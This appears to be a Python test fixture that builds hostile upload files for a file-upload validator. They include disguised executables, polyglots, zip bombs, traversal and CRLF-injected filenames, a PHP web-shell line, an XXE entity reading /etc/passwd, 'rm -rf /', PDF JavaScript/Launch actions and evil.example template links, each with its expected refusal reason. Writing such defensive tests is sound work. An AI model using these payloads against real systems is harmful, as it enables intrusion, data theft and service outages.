"""Files that must be refused, each made on demand, with the reason that is expected.

A reason is a key of `core.uploads.policy.REASONS`.
"""

import random
import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import NamedTuple
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from tests import files

MB = 1024 * 1024
EXE = b"MZ\x90\0\x03\0\0\0" + bytes(200) + b"PE\0\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
SCRIPT = b"#!/bin/sh\nrm -rf /\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
PHP = b"<?php system($_GET['c']); ?>"
DTD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


class Hostile(NamedTuple):
    what: str
    name: str
    make: Callable[[], bytes]
    reason: str


def hostile(what, name, content, reason):
    make = content if callable(content) else lambda: content
    return Hostile(what, name, make, reason)


def ending_in(content: bytes) -> bytes:
    """A PDF whose catalogue holds the content."""
    return files.pdf().replace(b"/Type /Catalog", b"/Type /Catalog " + content)


def many_entries():
    return files.docx({f"word/{n}.xml": b"<x/>" for n in range(2_001)})


def endless_directory():
    """Many more entries than the end record says."""
    content = bytearray(files.docx({f"word/{n}": b"" for n in range(20_000)}))
    content[-14:-10] = struct.pack("<2H", 9, 9)
    return bytes(content)


def high_ratio():
    return files.docx(word__zeros=b"<x>" + bytes(5 * MB))


def repetitive(size: int, every: int) -> bytes:
    """XML that packs the better the longer it stays the same."""
    source = random.Random(1)
    line = source.randbytes(every // 2).hex().encode()
    lines = (line + source.randbytes(8).hex().encode() for _ in range(size // every))
    return b"<x>" + b"".join(lines) + b"</x>"


def high_total():
    """Each entry is packed less than 100:1, together they are more than 100 MB."""
    part = repetitive(10 * MB, 1_200)
    return files.docx({f"word/part{n}.xml": part for n in range(11)})


def giant_tag():
    """One tag of twenty megabytes, which a parser may read again and again."""
    part = repetitive(20 * MB, 300).replace(b"<x>", b"<x a='", 1)
    return files.docx(word__giant=part.replace(b"</x>", b"'/>"))


def many_relations():
    target = ("hyperlink", "https://example.org/", "External")
    return files.docx({"word/_rels/a.xml.rels": files.relations(*[target] * 20_000)})


def sound_giant():
    """Not hostile, but nearly as large as is taken: 5 MB that unpack to 98."""
    part = repetitive(93 * MB // 10, 300)
    return files.docx({f"word/part{n}.xml": part for n in range(10)})


def changed(content: bytes, entry: str, *, size=None, flags=None, crc=None) -> bytes:
    """The archive with a directory that says something else of one entry."""
    data = bytearray(content)
    with ZipFile(BytesIO(content)) as archive:
        place = archive.start_dir
        for info in archive.infolist():
            if info.filename == entry:
                break
            place += 46 + len(info.filename.encode())
    if flags is not None:
        data[place + 8 : place + 10] = struct.pack("<H", flags)
    if crc is not None:
        data[place + 16 : place + 20] = struct.pack("<L", crc)
    if size is not None:
        data[place + 24 : place + 28] = struct.pack("<L", size)
    return bytes(data)


def lying_size():
    """Says 9 bytes with the right checksum for those; holds five megabytes."""
    content = b"<x>123456" + bytes(5 * MB)
    packed = files.docx(word__liar=content)
    return changed(packed, "word/liar.xml", size=9, crc=zlib.crc32(content[:9]))


def lying_larger():
    return changed(files.docx(word__liar=b"<x/>"), "word/liar.xml", size=9_000)


def encrypted_entry():
    return changed(files.docx(), "word/document.xml", flags=1)


def two_names():
    """The directory calls an entry what its own header does not."""
    data = files.docx(word__hidden=b"<x/>")
    return data.replace(b"word/hidden.xml", b"word/HIDDEN.xml", 1)


def shared_bytes():
    """Two entries of the directory that point at the same bytes."""
    data = files.docx(word__a=b"<x/>", word__b=b"<x/>")
    with ZipFile(BytesIO(data)) as archive:
        places = [info.header_offset for info in archive.infolist()]
    return data[::-1].replace(
        struct.pack("<L", places[-1])[::-1], struct.pack("<L", places[-2])[::-1], 1
    )[::-1]


def symlink():
    buffer = BytesIO(files.docx())
    link = ZipInfo("word/link.xml")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    with ZipFile(buffer, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def with_path(path):
    return lambda: files.docx({path: b"<x/>"})


def with_type(content_type):
    parts = files.docx_parts()
    name = "[Content_Types].xml"
    return lambda: files.docx({name: parts[name].replace(files.MAIN, content_type)})


def with_relation(kind, target, mode="", part="word/_rels/settings.xml.rels"):
    return lambda: files.docx({part: files.relations((kind, target, mode))})


def workbook():
    parts = files.docx_parts()
    parts["xl/workbook.xml"] = parts.pop("word/document.xml")
    return files.archive(parts)


def nested():
    """An archive in an archive, as a quine or a bomb of several floors needs it."""
    return files.docx({"word/media/image1.png": files.archive({"a": bytes(9_000)})})


def png_header(width, height):
    """A sound header and no pixels."""
    header = struct.pack("!2L5B", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack("!L", len(header))
        + chunk
        + struct.pack("!L", zlib.crc32(chunk))
        + b"\0\0\0\0IDAT5\xaf\x06\x1e"
    )


def jpeg_of(width, height):
    """A small JPEG whose header announces other measures."""
    data = bytearray(files.jpeg())
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack("!2H", height, width)
    return bytes(data)


def many_scans():
    """A progressive JPEG that goes over its pixels again and again."""
    data = files.jpeg(progressive=True)
    start = data.index(b"\xff\xda")
    following = data.index(b"\xff", start + 14)
    return data[:start] + data[start:following] * 100 + data[following:]


def crumbs(picture: bytes, crumb: bytes, place: int) -> bytes:
    """A picture with half a million comments."""
    return picture[:place] + crumb * 500_000 + picture[place:]


def png_crumbs():
    chunk = b"tEXta\0"
    crumb = b"\0\0\0\x02" + chunk + struct.pack("!L", zlib.crc32(chunk))
    return crumbs(files.png(), crumb, len(b"\x89PNG\r\n\x1a\n") + 25)


def jpeg_with_archive():
    return files.jpeg() + files.archive({"payload.exe": EXE})


def png_with_archive():
    return files.png() + files.archive({"payload.exe": EXE})


def pdf_with_archive():
    return files.pdf() + files.archive({"payload.exe": EXE})


def archive_before_pdf():
    return files.archive({"payload.exe": EXE}) + files.pdf()


def archive_inside_pdf():
    """The end of the PDF is inside the comment of the archive."""
    buffer = BytesIO(files.pdf())
    buffer.seek(0, 2)
    with ZipFile(buffer, "a") as archive:
        archive.writestr("payload.exe", EXE)
        archive.comment = b"%%EOF\n"
    return buffer.getvalue()


def stored_twice():
    buffer = BytesIO(files.docx())
    with ZipFile(buffer, "a", ZIP_STORED) as archive:
        archive.writestr("word/Document.xml", "<x/>")
    return buffer.getvalue()


def archive_with_comment():
    buffer = BytesIO(files.docx())
    with ZipFile(buffer, "a", ZIP_DEFLATED) as archive:
        archive.comment = PHP
    return buffer.getvalue()


HOSTILE = [
    # What it is not
    hostile("program", "offer.exe", EXE, "type"),
    hostile("program called PDF", "offer.pdf", EXE, "mismatch"),
    hostile("program called DOCX", "offer.docx", EXE, "mismatch"),
    hostile("ELF called PNG", "offer.png", ELF, "mismatch"),
    hostile("shell script called JPEG", "offer.jpg", SCRIPT, "mismatch"),
    hostile("script", "offer.sh", SCRIPT, "type"),
    hostile("SVG with a script", "logo.svg", SVG, "type"),
    hostile("SVG called PNG", "logo.png", SVG, "mismatch"),
    hostile("HTML", "offer.html", HTML, "type"),
    hostile("HTML called PDF", "offer.pdf", HTML, "mismatch"),
    hostile("XML called DOCX", "offer.docx", b"<?xml version='1.0'?>", "mismatch"),
    hostile("PNG called JPEG", "photo.jpg", files.png, "mismatch"),
    hostile("JPEG called PNG", "photo.png", files.jpeg, "mismatch"),
    hostile("PDF called DOCX", "offer.docx", files.pdf, "mismatch"),
    hostile("DOCX called PDF", "offer.pdf", files.docx, "mismatch"),
    hostile("GIF and JavaScript", "a.png", b"GIF89a/*\0*/=1;alert(1)", "mismatch"),
    hostile("archive", "offer.zip", lambda: files.archive({"a": b"a"}), "type"),
    hostile(
        "archive called DOCX", "a.docx", lambda: files.archive({"a": b"a"}), "mismatch"
    ),
    hostile("workbook called DOCX", "offer.docx", workbook, "mismatch"),
    hostile("no extension", "offer", files.pdf, "type"),
    hostile("two extensions", "offer.pdf.exe", EXE, "type"),
    hostile("two extensions, turned", "offer.exe.pdf", EXE, "mismatch"),
    hostile("space after the extension", "offer.exe ", EXE, "type"),
    hostile("stream of a file system", "offer.exe:.pdf", EXE, "mismatch"),
    # Size
    hostile("nothing", "offer.pdf", b"", "empty"),
    hostile(
        "more than 10 MB", "offer.pdf", lambda: files.pdf() + bytes(10 * MB), "too_big"
    ),
    # Names
    hostile("turned name", "offer\u202efdp.pdf", files.pdf, "name"),
    hostile("turned program", "offer\u202efdp.exe", EXE, "name"),
    hostile("isolated name", "offer\u2067fdp\u2069.pdf", files.pdf, "name"),
    hostile("path upwards", "../../etc/offer.pdf", files.pdf, "name"),
    hostile("path of Windows", "..\\..\\windows\\offer.pdf", files.pdf, "name"),
    hostile("path from the root", "/etc/cron.d/offer.pdf", files.pdf, "name"),
    hostile("NUL in the name", "offer.exe\0.pdf", files.pdf, "name"),
    hostile("line end in the name", "offer\r\nSet-Cookie: a=b.pdf", files.pdf, "name"),
    hostile("bell in the name", "offer\x07.pdf", files.pdf, "name"),
    hostile("nothing but dots", "..", files.pdf, "name"),
    # PDF
    hostile("PDF and archive", "offer.pdf", pdf_with_archive, "hidden"),
    hostile("archive around the PDF's end", "offer.pdf", archive_inside_pdf, "hidden"),
    hostile("archive before the PDF", "offer.pdf", archive_before_pdf, "mismatch"),
    hostile("PDF and program", "offer.pdf", lambda: files.pdf() + EXE, "hidden"),
    hostile("PDF without end", "offer.pdf", lambda: files.pdf()[:-20], "damaged"),
    hostile("PDF and PHP", "offer.pdf", lambda: files.pdf(PHP), "hidden"),
    hostile(
        "PDF that runs JavaScript",
        "offer.pdf",
        lambda: ending_in(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "active",
    ),
    hostile(
        "PDF that disguises it",
        "offer.pdf",
        lambda: ending_in(b"/OpenAction << /S /J#61va#53cript /JS (1) >>"),
        "active",
    ),
    hostile(
        "PDF that starts a program",
        "offer.pdf",
        lambda: ending_in(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "active",
    ),
    hostile(
        "PDF that holds files",
        "offer.pdf",
        lambda: ending_in(b"/Names << /EmbeddedFiles << >> >>"),
        "active",
    ),
    # DOCX: the archive
    hostile("many entries", "offer.docx", many_entries, "bomb"),
    hostile("endless directory", "offer.docx", endless_directory, "bomb"),
    hostile("high ratio", "offer.docx", high_ratio, "bomb"),
    hostile("high total", "offer.docx", high_total, "bomb"),
    hostile("size too small", "offer.docx", lying_size, "bomb"),
    hostile("size too large", "offer.docx", lying_larger, "damaged"),
    hostile(
        "wrong checksum",
        "offer.docx",
        lambda: changed(files.docx(), "word/document.xml", crc=1),
        "damaged",
    ),
    hostile("archive in the archive", "offer.docx", nested, "active"),
    hostile("entry with a password", "offer.docx", encrypted_entry, "locked"),
    hostile("document with a password", "offer.docx", COMPOUND, "locked"),
    hostile("entry outside", "offer.docx", with_path("../../evil.xml"), "hidden"),
    hostile("entry from the root", "offer.docx", with_path("/etc/evil.xml"), "hidden"),
    hostile("entry of Windows", "offer.docx", with_path("..\\evil.xml"), "hidden"),
    hostile("symbolic link", "offer.docx", symlink, "hidden"),
    hostile("two names of one entry", "offer.docx", two_names, "hidden"),
    hostile("two entries of one name", "offer.docx", stored_twice, "hidden"),
    hostile("two entries in one place", "offer.docx", shared_bytes, "hidden"),
    hostile("archive with a comment", "offer.docx", archive_with_comment, "damaged"),
    hostile("DOCX and program", "offer.docx", lambda: files.docx() + EXE, "damaged"),
    hostile("half a DOCX", "offer.docx", lambda: files.docx()[:400], "damaged"),
    # DOCX: the document
    hostile(
        "macros",
        "offer.docx",
        lambda: files.docx({"word/vbaProject.bin": COMPOUND}),
        "active",
    ),
    hostile(
        "macros by another name",
        "offer.docx",
        lambda: files.docx({"word/a.bin": COMPOUND}),
        "active",
    ),
    hostile(
        "DOCM called DOCX",
        "offer.docx",
        with_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "active",
    ),
    hostile(
        "template called DOCX",
        "offer.docx",
        with_type(f"{files.WORD[:-8]}template.main+xml"),
        "mismatch",
    ),
    hostile("ActiveX", "offer.docx", with_path("word/activeX/activeX1.xml"), "active"),
    hostile(
        "embedded object",
        "offer.docx",
        lambda: files.docx({"word/embeddings/oleObject1.bin": COMPOUND}),
        "active",
    ),
    hostile(
        "embedded program",
        "offer.docx",
        lambda: files.docx({"word/media/image1.png": EXE}),
        "active",
    ),
    hostile(
        "embedded HTML", "offer.docx", with_relation("aFChunk", "chunk.dat"), "active"
    ),
    hostile(
        "DTD",
        "offer.docx",
        lambda: files.docx(word__styles=f"{DTD}<x>&e;</x>"),
        "active",
    ),
    hostile(
        "DTD in the main part",
        "offer.docx",
        lambda: files.docx(word__document=f"{DTD}<x/>"),
        "active",
    ),
    hostile(
        "DTD in UTF-16",
        "offer.docx",
        lambda: files.docx(word__styles=f"{DTD}<x/>".encode("utf-16")),
        "active",
    ),
    hostile(
        "DTD in the list of types",
        "offer.docx",
        lambda: files.docx({"[Content_Types].xml": f"{DTD}<x/>"}),
        "active",
    ),
    hostile(
        "DTD in another part",
        "offer.docx",
        lambda: files.docx({"word/part.dat": f"{DTD}<x/>"}),
        "active",
    ),
    hostile("giant tag", "offer.docx", giant_tag, "damaged"),
    hostile("many relations", "offer.docx", many_relations, "bomb"),
    hostile(
        "no XML at all",
        "offer.docx",
        lambda: files.docx(word__document=b"text"),
        "damaged",
    ),
    hostile(
        "template from elsewhere",
        "offer.docx",
        with_relation("attachedTemplate", "https://evil.example/t.dotm", "External"),
        "external",
    ),
    hostile(
        "picture from elsewhere",
        "offer.docx",
        with_relation("image", "\\\\evil.example\\a.png", "External"),
        "external",
    ),
    # Pictures
    hostile(
        "169 million pixels", "photo.png", lambda: png_header(13_000, 13_000), "pixels"
    ),
    hostile(
        "four thousand million pixels",
        "photo.png",
        lambda: png_header(65_000, 65_000),
        "pixels",
    ),
    hostile(
        "42 million pixels", "photo.png", lambda: png_header(7_000, 6_000), "pixels"
    ),
    hostile("very long side", "photo.png", lambda: png_header(12_001, 10), "pixels"),
    hostile("huge JPEG", "photo.jpg", lambda: jpeg_of(60_000, 60_000), "pixels"),
    hostile("many scans", "photo.jpg", many_scans, "damaged"),
    hostile("many chunks", "photo.png", png_crumbs, "damaged"),
    hostile(
        "many segments",
        "photo.jpg",
        lambda: crumbs(files.jpeg(), b"\xff\xfe\0\x02", 2),
        "damaged",
    ),
    hostile("header only", "photo.png", lambda: png_header(10, 10), "damaged"),
    hostile("half a PNG", "photo.png", lambda: files.png((400, 300))[:200], "damaged"),
    hostile(
        "half a JPEG", "photo.jpg", lambda: files.jpeg((400, 300))[:900], "damaged"
    ),
    hostile(
        "broken PNG",
        "photo.png",
        lambda: files.png().replace(b"IDAT", b"IDAT\xff\xff", 1),
        "damaged",
    ),
    hostile("JPEG and archive", "photo.jpg", jpeg_with_archive, "hidden"),
    hostile("PNG and archive", "photo.png", png_with_archive, "hidden"),
    hostile("PNG and PHP", "photo.png", lambda: files.png() + PHP, "hidden"),
    hostile("JPEG and HTML", "photo.jpg", lambda: files.jpeg(comment=HTML), "hidden"),
]
